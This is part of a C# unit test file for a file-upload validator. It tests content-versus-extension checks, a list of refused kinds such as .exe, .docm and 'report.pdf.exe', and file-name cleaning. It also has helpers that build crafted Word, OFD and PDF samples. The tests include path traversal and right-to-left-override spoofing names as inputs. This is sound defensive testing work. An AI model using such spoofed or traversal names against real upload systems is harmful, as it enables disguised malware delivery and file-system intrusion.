        var fault = FileKinds.OfSite("x.svg")!.Check(new MemoryStream(Samples.Text(svg)));

        // Assert
        Assert.Null(fault);
    }

    [Theory]
    [MemberData(nameof(Allowed))]
    public void Content_ThatIsWhatItsNameSays_IsTaken(string fileName, byte[] content)
    {
        // Act
        var fault = FileKinds.Of(fileName)!.Check(new MemoryStream(content));

        // Assert
        Assert.Null(fault);
    }

    /// <summary>The documents that the demonstration's agencies publish, made by office programs' libraries.</summary>
    [Fact]
    public void Documents_OfTheDemonstration_AreTaken()
    {
        // Arrange
        var files = Directory.GetFiles(Path.Combine(AppContext.BaseDirectory, "recipes", "demo", "files"));

        // Act
        var refused = files.Where(file => FileKinds.OfSite(file) is { } kind && kind.Check(new MemoryStream(File.ReadAllBytes(file))) is not null);

        // Assert
        Assert.NotEmpty(files);
        Assert.Empty(refused);
    }

    [Theory]
    [MemberData(nameof(Refused))]
    public void Content_ThatIsSomethingElse_IsRefused(string fileName, byte[] content)
    {
        // Act
        var fault = FileKinds.Of(fileName)!.Check(new MemoryStream(content));

        // Assert
        Assert.NotNull(fault);
    }

    [Theory]
    [InlineData("page.html")]
    [InlineData("drawing.svg")]
    [InlineData("data.xml")]
    [InlineData("setup.exe")]
    [InlineData("setup.msi")]
    [InlineData("macro.docm")]
    [InlineData("script.js")]
    [InlineData("noextension")]
    [InlineData("report.pdf.exe")]
    public void Name_OfAKindThatIsNotAllowed_HasNoKind(string fileName)
    {
        // Act
        var kind = FileKinds.Of(fileName);

        // Assert
        Assert.Null(kind);
    }

    [Theory]
    [InlineData("C:\\Users\\me\\report.PDF", "report.pdf")]
    [InlineData("../../etc/report.pdf", "report.pdf")]
    [InlineData("  预算\u202Efdp.pdf ", "预算fdp.pdf")]
    [InlineData("a<b>:c.pdf", "abc.pdf")]
    [InlineData("关于𬭛的通知.pdf", "关于𬭛的通知.pdf")]
    [InlineData(".pdf", null)]
    [InlineData("nothing", null)]
    [InlineData("𬭛\u200B.pdf", "𬭛.pdf")]
    [InlineData("a\uFFFE.pdf", null)]
    [InlineData("a\0.pdf", null)]
    public void SentName_IsCleaned(string sent, string? expected)
    {
        // Act
        var name = FileNames.Clean(sent);

        // Assert
        Assert.Equal(expected, name);
    }

    private static byte[] Ofd(params (string Name, string Content)[] parts) =>
        Samples.Zip([("OFD.xml", Samples.Text("<OFD/>")), .. parts.Select(part => (part.Name, Samples.Text(part.Content)))]);

    private static (string Name, string Content) Page(string content) => ("Doc_0/Pages/Page_0/Content.xml", $"<Page>{content}</Page>");

    private static (string Name, string Content) Attached(string name, string format, string place) =>
        ("Doc_0/Attachs/Attachments.xml", $"<o:Attachments xmlns:o='o'><o:Attachment ID='1' Name='{name}' Format='{format}'><o:FileLoc>{place}</o:FileLoc></o:Attachment></o:Attachments>");

    private const string Open = "application/vnd.openxmlformats-officedocument.";

    /// <summary>The beginning of a workbook with one sheet of that kind.</summary>
    private static byte[] Sheets(byte kind) => [0x09, 0x08, 4, 0, 0, 6, 5, 0, 0x85, 0, 8, 0, 0, 0, 0, 0, 0, kind, 0, 0, 0x0A, 0, 0, 0];

    /// <summary>A workbook's own part, of that version, with further records.</summary>
    private static byte[] Book(int version, params (int Type, byte[] Body)[] records) =>
    [
        .. Sheets(0)[..4], (byte)version, (byte)(version >> 8), 5, 0,
        .. records.SelectMany(record => (byte[])[(byte)record.Type, (byte)(record.Type >> 8), (byte)record.Body.Length, 0, .. record.Body]), 0x0A, 0, 0, 0,
    ];

    /// <summary>A text of Word with one field, whose code lies in two pieces that stand in the wrong order.</summary>
    private static byte[] InPieces(string first, string second, int flags = 0)
    {
        const int Head = 1024;
        byte[] code = [0x13, .. Encoding.Latin1.GetBytes(first)];
        byte[] rest = [.. Encoding.Unicode.GetBytes(second), 0x15, 0];
        var text = new byte[Head + rest.Length + code.Length];
        BinaryPrimitives.WriteUInt16LittleEndian(text, 0xA5EC);
        BinaryPrimitives.WriteUInt16LittleEndian(text.AsSpan(10), (ushort)(0x0200 | flags));
        rest.CopyTo(text, Head);
        code.CopyTo(text, Head + rest.Length);
        int[] list = [0, code.Length, code.Length + (rest.Length / 2)];
        byte[] pieces = [.. list.SelectMany(BitConverter.GetBytes), 0, 0, .. BitConverter.GetBytes(((Head + rest.Length) * 2) | 0x4000_0000), 0, 0, 0, 0, .. BitConverter.GetBytes(Head), 0, 0];
        byte[] table = [1, 2, 0, 7, 7, 2, .. BitConverter.GetBytes(pieces.Length), .. pieces];
        BinaryPrimitives.WriteInt32LittleEndian(text.AsSpan(0x01A2), 0);
        BinaryPrimitives.WriteInt32LittleEndian(text.AsSpan(0x01A6), table.Length);
        return CompoundSample.Write(("WordDocument", text), ("1Table", table));
    }

    /// <summary>A document of Word with a footer of that content, or with that relation.</summary>
    private static byte[] Word(string content, bool isRelation = false) => isRelation || content.StartsWith("<Relationship ", StringComparison.Ordinal)
        ? Samples.Word(("word/_rels/document.xml.rels", "", $"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{content}</Relationships>"))
        : Samples.Word(("word/footer1.xml", Open + "wordprocessingml.footer+xml", $"<f>{content}</f>"));

    private static string Relation(string kind, string target, string mode = "External") =>
        $"<Relationship Id='a' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' Target='{target}' TargetMode='{mode}'/>";

    /// <summary>Marks of a field (<c>begin</c>, <c>separate</c>, <c>end</c>) and what stands between them.</summary>
    private static string Field(params string[] steps) => $"<w:r xmlns:w='w'>{string.Concat(steps.Select(step =>
        step is "begin" or "separate" or "end" ? $"<w:fldChar w:fldCharType='{step}'/>" : $"<w:instrText>{System.Security.SecurityElement.Escape(step)}</w:instrText>"))}</w:r>";

    private static byte[] PackedPdf(string objects, CompressionLevel level = CompressionLevel.Optimal, string list = "1 0 ", string? first = null, string? count = null)
    {
        using var packed = new MemoryStream();
        using (var deflater = new ZLibStream(packed, level, leaveOpen: true))
        {
            deflater.Write(Samples.Text(list + objects));
        }
        return [.. Samples.Text($"%PDF-1.7\n1 0 obj<</Type/ObjStm/N {count ?? (list.Split(' ', StringSplitOptions.RemoveEmptyEntries).Length / 2).ToString(System.Globalization.CultureInfo.InvariantCulture)}/First {first ?? list.Length.ToString(System.Globalization.CultureInfo.InvariantCulture)}/Filter/FlateDecode>>stream\r\n"), .. packed.ToArray(), .. "\nendstream endobj\n%%EOF"u8];
    }
}
